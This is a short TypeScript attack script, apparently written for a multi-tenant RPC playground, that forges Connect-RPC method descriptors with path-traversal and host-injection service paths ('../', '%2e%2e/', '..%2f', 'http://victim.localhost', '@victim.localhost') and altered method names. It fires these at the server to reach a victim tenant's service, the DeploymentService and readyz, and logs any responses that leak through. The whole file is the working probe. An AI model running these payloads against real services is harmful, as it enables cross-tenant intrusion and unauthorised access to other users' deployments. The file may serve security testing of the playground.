import { createClient } from "@connectrpc/connect";
import { transport } from "playground";
import { Target } from "./gen/target_pb";

import { victim } from "./victim";

/** Descriptors of methods whose paths lead elsewhere. */
export async function attack() {
  const own = Target.method.attack;
  const paths = [
    `d/${victim}/attack.v1.Target`,
    `../${victim}/attack.v1.Target`,
    `../../d/${victim}/attack.v1.Target`,
    `%2e%2e/${victim}/attack.v1.Target`,
    `..%2f${victim}/attack.v1.Target`,
    `/d/${victim}/attack.v1.Target`,
    `//d/${victim}/attack.v1.Target`,
    `\\..\\${victim}\\attack.v1.Target`,
    `http://${victim}.localhost/attack.v1.Target`,
    `@${victim}.localhost/attack.v1.Target`,
    `?x=/d/${victim}/attack.v1.Target`,
    "../../playground.v1.DeploymentService",
    "../../readyz",
  ];
  const found: string[] = [];
  for (const typeName of paths) {
    const method = { ...own, parent: { ...own.parent, typeName } };
    for (const name of ["Attack", "Attack?", "Attack#", "../Attack"]) {
      const crafted = { ...method, name } as unknown as typeof own;
      await transport.unary(crafted, undefined, 2_000, undefined, { text: "victim?" }).then(
        ({ message }) => message.text !== "own victim?" && found.push(`${typeName}: ${message.text}`),
        () => {},
      );
    }
  }
  console.log(`found: ${found.join()}`);
}
